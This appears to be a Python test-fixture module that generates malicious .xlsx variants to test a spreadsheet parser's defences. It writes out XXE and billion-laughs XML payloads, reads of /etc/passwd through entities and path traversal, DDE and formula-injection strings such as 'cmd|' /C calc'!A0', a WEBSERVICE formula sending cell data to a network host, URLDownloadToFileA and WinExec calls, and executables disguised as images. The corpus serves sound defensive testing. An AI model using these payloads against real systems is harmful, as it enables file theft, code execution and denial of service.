"""Parts of an .xlsx that act, reach out, or declare what expands."""

from __future__ import annotations

from tests.corpus.hostile.sizes import SHARED
from tests.corpus.hostile.tools import (
    SHEET,
    TYPES,
    added,
    changed,
    hostile,
    packed,
    parts_of,
    register,
    replaced,
    with_rows,
)

PRESENT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
DOCTYPES = {
    "entities-of-entities": LAUGHS,
    "an-entity-of-megabytes": '<!DOCTYPE x [<!ENTITY a "' + "a" * 100_000 + '">]>',
    "a-file-of-the-machine": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "a-document-type-from-the-network": '<!DOCTYPE x SYSTEM "http://203.0.113.7/x.dtd">',
    "a-parameter-entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.7/x"> %a;]>',
}


def _with_doctype(xml: bytes, doctype: str, encoding: str = "utf-8") -> bytes:
    head, _, rest = xml.decode().partition("?>")
    return f"{head.replace('UTF-8', encoding.upper()[:6].rstrip('-'))}?>{doctype}{rest}".encode(encoding)


for _name, _doctype in DOCTYPES.items():
    register(
        f"{_name}-in-a-sheet",
        lambda good, d=_doctype: changed(good, SHEET, lambda xml: _with_doctype(xml, d)),  # type: ignore[misc]
    )
for _part, _name in (
    (SHARED, "the-texts"),
    ("xl/workbook.xml", "the-workbook"),
    (TYPES, "the-table-of-parts"),
    ("docProps/core.xml", "the-properties"),
    ("_rels/.rels", "the-relations"),
):
    register(
        f"entities-of-entities-in-{_name}",
        lambda good, part=_part: changed(good, part, lambda xml: _with_doctype(xml, LAUGHS)),  # type: ignore[misc]
    )
for _encoding in ("utf-16", "utf-16-le", "utf-16-be"):
    register(
        f"entities-in-{_encoding}",
        lambda good, e=_encoding: changed(good, SHEET, lambda xml: _with_doctype(xml, LAUGHS, e)),  # type: ignore[misc]
    )


@hostile
def a_sheet_in_the_code_of_a_mainframe(good: bytes) -> bytes:
    return changed(good, SHEET, lambda xml: xml.decode().replace("UTF-8", "cp037").encode("cp037", "replace"))


@hostile
def a_sheet_in_utf_7(good: bytes) -> bytes:
    return changed(good, SHEET, lambda xml: xml.replace(b"UTF-8", b"UTF-7", 1))


CALLING = '<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
UNNAMED = {
    "with-a-mark-of-its-encoding": b"\xef\xbb\xbf" + CALLING.encode(),
    "behind-a-mark-and-blanks": b"\xef\xbb\xbf \r\n" + CALLING.encode(),
    "of-wide-letters": CALLING.encode("utf-16"),
    "of-wide-letters-without-a-mark": CALLING.encode("utf-16-le"),
    "behind-a-wide-blank": f" {CALLING}".encode("utf-16-be"),
    "of-letters-four-bytes-wide": CALLING.encode("utf-32-be"),
    "in-the-code-of-a-mainframe": f"<?xml version='1.0' encoding='cp037'?>{CALLING}".encode("cp037", "replace"),
}
"""A parser goes by the first bytes of a part, whatever it is called."""
for _name, _content in UNNAMED.items():
    register(
        f"a-sheet-under-another-name-{_name}",
        lambda good, content=_content: added(good, "xl/worksheets/x.dat", content),  # type: ignore[misc]
    )


@hostile
def a_sheet_of_a_mainframe_under_its_own_name(good: bytes) -> bytes:
    return added(good, "xl/worksheets/sheet9.xml", UNNAMED["in-the-code-of-a-mainframe"])


@hostile
def a_nul_in_a_sheet(good: bytes) -> bytes:
    return with_rows(good, b'<row r="40"><c r="A40" t="inlineStr"><is><t>a\x00b</t></is></c></row>')


@hostile
def a_sheet_cut_off(good: bytes) -> bytes:
    return changed(good, SHEET, lambda xml: xml[: len(xml) // 2])


@hostile
def a_sheet_without_its_part(good: bytes) -> bytes:
    return packed({name: content for name, content in parts_of(good).items() if name != SHEET})


@hostile
def a_sheet_that_is_a_file_of_the_machine(good: bytes) -> bytes:
    return changed(
        good, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace(b"worksheets/sheet3.xml", b"../../../../etc/passwd")
    )


@hostile
def a_sheet_from_the_network(good: bytes) -> bytes:
    return changed(
        good,
        "xl/_rels/workbook.xml.rels",
        lambda xml: xml.replace(b'"worksheets/sheet3.xml"', b'"http://203.0.113.7/s.xml" TargetMode="External"'),
    )


PARTS = {
    "macros": "xl/vbaProject.bin",
    "macros-in-capitals": "XL/VBAPROJECT.BIN",
    "macros-of-excel-4": "xl/macrosheets/sheet1.xml",
    "a-dialogue": "xl/dialogsheets/sheet1.xml",
    "a-control": "xl/activeX/activeX1.xml",
    "an-embedded-object": "xl/embeddings/oleObject1.bin",
    "an-embedded-workbook": "xl/embeddings/Microsoft_Excel_Sheet1.xlsx",
    "a-connection": "xl/connections.xml",
    "a-query": "xl/queryTables/queryTable1.xml",
}
for _name, _part in PARTS.items():
    register(_name, lambda good, part=_part: added(good, part, b"x"))  # type: ignore[misc]

TYPED = {
    "macros-under-another-name": "application/vnd.ms-office.vbaProject",
    "macros-of-excel-4-under-another-name": "application/vnd.ms-excel.macrosheet+xml",
    "a-control-under-another-name": "application/vnd.ms-office.activeX+xml",
    "an-object-under-another-name": "application/vnd.openxmlformats-officedocument.oleObject",
    "a-connection-under-another-name": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
}
for _name, _type in TYPED.items():
    register(
        _name,
        lambda good, t=_type: replaced(  # type: ignore[misc]
            added(good, "xl/theme/theme2.dat", b"x"),
            TYPES,
            b"</Types>",
            f'<Override PartName="/xl/theme/theme2.dat" ContentType="{t}"/></Types>'.encode(),
        ),
    )


@hostile
def a_workbook_with_macros(good: bytes) -> bytes:
    """As .xlsm, with everything that belongs to it."""
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    typed = replaced(good, TYPES, plain, PRESENT.encode())
    binary = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return added(replaced(typed, TYPES, b"</Types>", binary), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")


BINARIES = {
    "a-program-as-a-picture": b"MZ\x90\x00" + bytes(60),
    "a-program-of-linux-as-a-picture": b"\x7fELF" + bytes(60),
    "a-zip-as-a-picture": packed({"a": b"b"}),
    "a-pdf-as-a-picture": b"%PDF-1.7\n",
    "a-rar-as-a-picture": b"Rar!\x1a\x07\x00",
    "an-object-as-a-picture": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
}
for _name, _content in BINARIES.items():
    register(_name, lambda good, content=_content: added(good, "xl/media/image1.png", content))  # type: ignore[misc]


def _with_formula(formula: str) -> object:
    return lambda good: with_rows(good, f'<row r="40"><c r="A40"><f>{formula}</f><v>0</v></c></row>')


FORMULAS = {
    "a-command": "cmd|' /C calc'!A0",
    "a-command-escaped": "cmd|&apos;/C calc&apos;!A0",
    "a-command-behind-a-sign": "+MSEXCEL|&#39;\\..\\..\\cmd.exe /c calc&#39;!A0",
    "a-topic": "DDE(&quot;cmd&quot;,&quot;/C calc&quot;,&quot;x&quot;)",
    "a-live-value": "RTD(&quot;evil.server&quot;,,&quot;x&quot;)",
    "a-page-of-the-network": "WEBSERVICE(&quot;http://203.0.113.7/?&quot;&amp;A1)",
    "a-call": "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;)",
    "a-register": "REGISTER.ID(&quot;kernel32&quot;,&quot;WinExec&quot;)",
}
for _name, _formula in FORMULAS.items():
    register(f"a-formula-with-{_name}", _with_formula(_formula))  # type: ignore[arg-type]


@hostile
def a_link_to_a_program(good: bytes) -> bytes:
    return added(
        good,
        "xl/externalLinks/externalLink1.xml",
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>',
    )


@hostile
def a_link_to_an_object(good: bytes) -> bytes:
    return added(good, "xl/externalLinks/externalLink1.xml", '<externalLink><oleLink progId="Word"/></externalLink>')


@hostile
def an_object_on_a_sheet(good: bytes) -> bytes:
    objects = (
        b'</sheetData><oleObjects><oleObject progId="Package" link="x" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>'
    )
    return changed(good, SHEET, lambda xml: xml.replace(b"</sheetData>", objects))
